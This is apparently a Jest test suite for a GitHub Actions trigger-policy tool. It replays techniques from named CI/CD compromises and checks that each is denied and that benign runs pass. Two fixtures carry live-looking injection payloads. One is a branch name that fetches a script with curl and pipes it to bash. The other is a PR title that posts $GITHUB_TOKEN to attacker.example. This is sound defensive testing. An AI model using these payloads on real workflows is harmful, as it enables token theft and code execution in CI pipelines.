import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { CLI, ROOT, runBundle, type BundleOptions } from '../trigger/bundle.js';
import { forkPullRequest, payload, PR_HEAD_SHA, SHA } from '../trigger/fixtures.js';
import { Loopback, type Reply } from '../trigger/servers.js';

/**
 * One case per technique used in a real CI/CD compromise, each run through the bundled action
 * (dist/verify-trigger.js) with a real @octokit/webhooks-examples payload mutated the way the
 * attacker shaped the run; the GitHub API (commit verification, pull requests) on loopback.
 * Each case names its incident and the rule that denies it. Benign runs of the same shapes pass.
 */

const POLICY = readFileSync(fileURLToPath(new URL('./ci-constraints.yml', import.meta.url)), 'utf8');
const PINNED = 'a81bbbf8298c0fa03ea29cdc473d45769f953675';
const REPO = '/repos/Codertocat/Hello-World';
const IMPOSTOR = '0e58ed8671d6b60d0890c21b07f8835ace038e67';

let routes: Record<string, Reply> = {};
const api = new Loopback((path) => routes[path]);
beforeAll(async () => void (await api.start()));
afterAll(() => api.close());
beforeEach(() => {
  routes = {
    [`${REPO}/commits/${SHA}`]: { status: 200, body: { sha: SHA, commit: { verification: { verified: true, reason: 'valid' } } } },
    [`${REPO}/commits/${IMPOSTOR}`]: { status: 200, body: { sha: IMPOSTOR, commit: { verification: { verified: false, reason: 'unsigned', signature: null } } } },
    [`${REPO}/pulls/1`]: { status: 200, body: { number: 1, head: { sha: PR_HEAD_SHA, ref: 'changes', repo: { full_name: 'Codertocat/Hello-World' } }, base: { repo: { full_name: 'Codertocat/Hello-World' } }, user: { login: 'Codertocat' } } },
  };
});

const prodEnv = (over: Record<string, string | undefined> = {}) => ({
  GITHUB_API_URL: api.url,
  GITHUB_ACTION_REF: PINNED,
  GITHUB_WORKFLOW_REF: 'Codertocat/Hello-World/.github/workflows/deploy.yml@refs/heads/main',
  ...over,
});
const run = (o: Omit<BundleOptions, 'policy'>) => runBundle({ policy: POLICY, inputs: { 'github-token': 'ghs_scenario', ...o.inputs }, ...o, env: { GITHUB_API_URL: api.url, ...o.env } });

function comment(body: string, association: string, author: string) {
  const p = payload('issue_comment', 'created');
  p.issue.pull_request = { url: 'https://api.github.com/repos/Codertocat/Hello-World/pulls/1' };
  p.comment.body = body;
  p.comment.author_association = association;
  p.comment.user.login = author;
  p.sender.login = author;
  return p;
}

describe('real incidents: each technique is denied, naming the rule', () => {
  it('tj-actions/changed-files 2025: a release tag moved onto an unsigned impostor commit → trigger.signed-commits', async () => {
    const r = await run({ event: 'push', payload: payload('push'), environment: 'release', env: prodEnv({ GITHUB_REF: 'refs/tags/v35.7.7', GITHUB_SHA: IMPOSTOR }) });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.signed-commits']);
    expect(r.report!.violations[0]!.message).toContain('no verified signature (unsigned)');
  });

  it('tj-actions/changed-files 2025: consuming an action by a movable tag (@v35) → trigger.pinned-action', async () => {
    const r = await run({ event: 'push', payload: payload('push'), environment: 'production', env: prodEnv({ GITHUB_ACTION_REF: 'v35' }) });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.pinned-action']);
  });

  it('Ultralytics 2024: fork PR on pull_request_target with a $({curl…}${IFS}|${IFS}bash) branch name → trigger.privileged-event + trigger.ref-charset', async () => {
    const branch = '$({curl,-sSfL,raw.githubusercontent.com/ultralytics/ultralytics/12e4f54ca3f2e69bcdc900d1c6e16642ca8ae545/file.sh}${IFS}|${IFS}bash)';
    const r = await run({ event: 'pull_request_target', payload: forkPullRequest('pull_request_target', 'openimbot/ultralytics', 'openimbot', branch), environment: 'ci', env: { GITHUB_REF: 'refs/heads/master', GITHUB_HEAD_REF: branch, GITHUB_BASE_REF: 'master', GITHUB_ACTOR: 'openimbot', GITHUB_TRIGGERING_ACTOR: 'openimbot' } });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.privileged-event', 'trigger.ref-charset']);
  });

  it('Nx s1ngularity 2025: fork PR reaching a pull_request_target workflow (title injection) → trigger.privileged-event', async () => {
    const p = forkPullRequest('pull_request_target', 'attacker/nx', 'attacker', 'fix-typo');
    p.pull_request.title = 'fix: typo"; curl -d "$GITHUB_TOKEN" https://attacker.example; echo "';
    const r = await run({ event: 'pull_request_target', payload: p, environment: 'ci', env: { GITHUB_REF: 'refs/heads/master', GITHUB_ACTOR: 'attacker', GITHUB_TRIGGERING_ACTOR: 'attacker' } });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.privileged-event']);
  });

  it('Nx s1ngularity 2025: the publish workflow started with the stolen GITHUB_TOKEN from an attacker branch → trigger.refs + trigger.actors', async () => {
    const r = await run({ event: 'workflow_dispatch', payload: payload('workflow_dispatch'), environment: 'production', env: prodEnv({ GITHUB_REPOSITORY: 'Codertocat/Hello-World', GITHUB_REF: 'refs/heads/attacker-publish', GITHUB_ACTOR: 'github-actions[bot]', GITHUB_TRIGGERING_ACTOR: 'github-actions[bot]' }) });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.actors', 'trigger.refs']);
  });

  it('Shai-Hulud 2025: a stolen token pushes a worm branch adding its own workflow → trigger.refs + trigger.workflow (the actor is the victim, and passes)', async () => {
    const r = await run({ event: 'push', payload: payload('push'), environment: 'production', env: prodEnv({ GITHUB_REF: 'refs/heads/shai-hulud', GITHUB_WORKFLOW_REF: 'Codertocat/Hello-World/.github/workflows/shai-hulud-workflow.yml@refs/heads/shai-hulud' }) });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.refs', 'trigger.workflow']);
    expect(r.report!.checks.find((c) => c.rule === 'trigger.actors')!.status).toBe('pass');
  });

  it('Shai-Hulud 2.0 2025: a discussion-triggered workflow on a rogue self-hosted runner (SHA1HULUD) → trigger.events + trigger.runner + trigger.workflow', async () => {
    const r = await run({ event: 'discussion', payload: payload('discussion', 'created'), environment: 'production', env: prodEnv({ GITHUB_REPOSITORY: 'Codertocat/Hello-World', RUNNER_ENVIRONMENT: 'self-hosted', RUNNER_NAME: 'SHA1HULUD', GITHUB_WORKFLOW_REF: 'Codertocat/Hello-World/.github/workflows/discussion.yaml@refs/heads/main' }) });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.events', 'trigger.runner', 'trigger.workflow']);
  });

  it('Dependabot confusion: actor dependabot[bot] on a PR someone else authored → trigger.actors (the PR author is judged)', async () => {
    const r = await run({
      event: 'pull_request',
      payload: forkPullRequest('pull_request', 'Codertocat/Hello-World', 'mallory', 'dependabot/npm_and_yarn/left-pad-1.3.1'),
      environment: 'dependencies',
      env: { GITHUB_REF: 'refs/pull/2/merge', GITHUB_ACTOR: 'dependabot[bot]', GITHUB_TRIGGERING_ACTOR: 'dependabot[bot]' },
    });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.actors']);
    expect(r.report!.violations[0]!.message).toContain('pull request author mallory is in none of the roles');
  });

  it('pwn request: a fork PR on pull_request_target that checks out the PR head → trigger.privileged-event', async () => {
    const r = await run({ event: 'pull_request_target', payload: forkPullRequest(), environment: 'ci', env: { GITHUB_REF: 'refs/heads/master', GITHUB_ACTOR: 'mallory', GITHUB_TRIGGERING_ACTOR: 'mallory' } });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.privileged-event']);
  });

  it('pwn request via workflow_run: a privileged follow-up of a fork PR run → trigger.privileged-event', async () => {
    const p = payload('workflow_run', 'completed');
    p.workflow_run.event = 'pull_request';
    p.workflow_run.head_repository.full_name = 'mallory/Hello-World';
    const r = await run({ event: 'workflow_run', payload: p, environment: 'ci', env: { GITHUB_REF: 'refs/heads/master' } });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.privileged-event']);
  });

  it('/deploy comment by an outsider (author_association NONE) → trigger.comment + trigger.actors', async () => {
    const r = await run({ event: 'issue_comment', payload: comment(`/deploy ${PR_HEAD_SHA.slice(0, 7)}`, 'NONE', 'mallory'), environment: 'deploy-by-comment', env: { GITHUB_ACTOR: 'mallory', GITHUB_TRIGGERING_ACTOR: 'mallory' } });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.actors', 'trigger.comment']);
  });

  it('/deploy after the PR head moved (push after review, TOCTOU) → trigger.comment-sha', async () => {
    routes[`${REPO}/pulls/1`] = { status: 200, body: { number: 1, head: { sha: SHA, ref: 'changes', repo: { full_name: 'Codertocat/Hello-World' } }, base: { repo: { full_name: 'Codertocat/Hello-World' } }, user: { login: 'Codertocat' } } };
    const r = await run({ event: 'issue_comment', payload: comment(`/deploy ${PR_HEAD_SHA.slice(0, 7)}`, 'OWNER', 'Codertocat'), environment: 'deploy-by-comment' });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.comment-sha']);
  });

  it('re-run by another user: GITHUB_TRIGGERING_ACTOR differs from the original actor → trigger.actors', async () => {
    const r = await run({ event: 'push', payload: payload('push'), environment: 'production', env: prodEnv({ GITHUB_TRIGGERING_ACTOR: 'mallory', GITHUB_RUN_ATTEMPT: '2' }) });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.actors']);
    expect(r.report!.violations[0]!.message).toContain('triggering actor mallory');
  });

  it('tag posing as a branch: refs/tags/main is not refs/heads/main → trigger.refs', async () => {
    const r = await run({ event: 'push', payload: payload('push'), environment: 'production', env: prodEnv({ GITHUB_REF: 'refs/tags/main' }) });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.refs']);
  });

  it('homoglyph branch: refs/heads/mаin with a Cyrillic а → trigger.ref-charset + trigger.refs', async () => {
    const r = await run({ event: 'push', payload: payload('push'), environment: 'production', env: prodEnv({ GITHUB_REF: 'refs/heads/m\u0430in' }) });
    expect(r.code).toBe(1);
    expect(r.violated).toEqual(['trigger.ref-charset', 'trigger.refs']);
    expect(r.report!.violations.find((v) => v.rule === 'trigger.ref-charset')!.message).toContain('U+0430');
  });
});

describe('benign real payloads are allowed', () => {
  it.each<[string, () => Omit<BundleOptions, 'policy'>]>([
    ['a maintainer pushes to main (push payload)', () => ({ event: 'push', payload: payload('push'), environment: 'production', env: prodEnv() })],
    ['a signed release tag (release payload)', () => {
      const p = payload('release', 'published');
      p.release.tag_name = 'v1.0.0';
      return { event: 'release', payload: p, environment: 'release', env: prodEnv({ GITHUB_REF: 'refs/tags/v1.0.0', GITHUB_WORKFLOW_REF: 'Codertocat/Hello-World/.github/workflows/release.yml@refs/tags/v1.0.0' }) };
    }],
    ['a manual deploy (workflow_dispatch payload)', () => ({ event: 'workflow_dispatch', payload: payload('workflow_dispatch'), environment: 'production', env: prodEnv({ GITHUB_ACTOR: 'octocat', GITHUB_TRIGGERING_ACTOR: 'octocat' }) })],
    ['a same-repository PR (pull_request payload)', () => ({ event: 'pull_request', payload: payload('pull_request', 'opened'), environment: 'ci', env: { GITHUB_REF: 'refs/pull/2/merge', GITHUB_HEAD_REF: 'changes', GITHUB_BASE_REF: 'master' } })],
    ['a fork PR on plain pull_request (no secrets) in ci', () => ({ event: 'pull_request', payload: forkPullRequest(), environment: 'ci', env: { GITHUB_REF: 'refs/pull/2/merge', GITHUB_ACTOR: 'mallory', GITHUB_TRIGGERING_ACTOR: 'mallory' } })],
    ['pull_request_target on a same-repository PR', () => ({ event: 'pull_request_target', payload: payload('pull_request', 'labeled'), environment: 'ci', env: { GITHUB_REF: 'refs/heads/master' } })],
    ['a maintainer\'s pinned /deploy comment (issue_comment payload)', () => ({ event: 'issue_comment', payload: comment(`/deploy ${PR_HEAD_SHA.slice(0, 12)}`, 'OWNER', 'Codertocat'), environment: 'deploy-by-comment' })],
    ['a real Dependabot PR (actor and author are dependabot[bot])', () => {
      const p = payload('pull_request', 'opened');
      p.pull_request.user.login = 'dependabot[bot]';
      return { event: 'pull_request', payload: p, environment: 'dependencies', env: { GITHUB_REF: 'refs/pull/2/merge', GITHUB_ACTOR: 'dependabot[bot]', GITHUB_TRIGGERING_ACTOR: 'dependabot[bot]' } };
    }],
  ])('%s', async (_n, make) => {
    const r = await run(make());
    expect(r.violated).toEqual([]);
    expect(r.code).toBe(0);
    expect(r.outputs.decision).toBe('allow');
  });
});

describe('the same scenarios as a policy test cases file (no API needed)', () => {
  it('node dist/cli.js policy test test/scenarios/cases.yml passes every case', async () => {
    const cases = fileURLToPath(new URL('./cases.yml', import.meta.url));
    const { code, stdout } = await new Promise<{ code: number; stdout: string }>((resolve) =>
      execFile(process.execPath, [CLI, 'policy', 'test', cases], { cwd: ROOT, env: { PATH: process.env.PATH ?? '' } }, (err, stdout) => resolve({ code: err ? Number((err as { code?: number }).code ?? 99) : 0, stdout })),
    );
    expect(stdout).not.toContain('FAIL');
    expect(stdout).toMatch(/^(\d+) passed, 0 failed$/m);
    expect(Number(/^(\d+) passed/m.exec(stdout)![1])).toBeGreaterThanOrEqual(18);
    expect(code).toBe(0);
  });
});
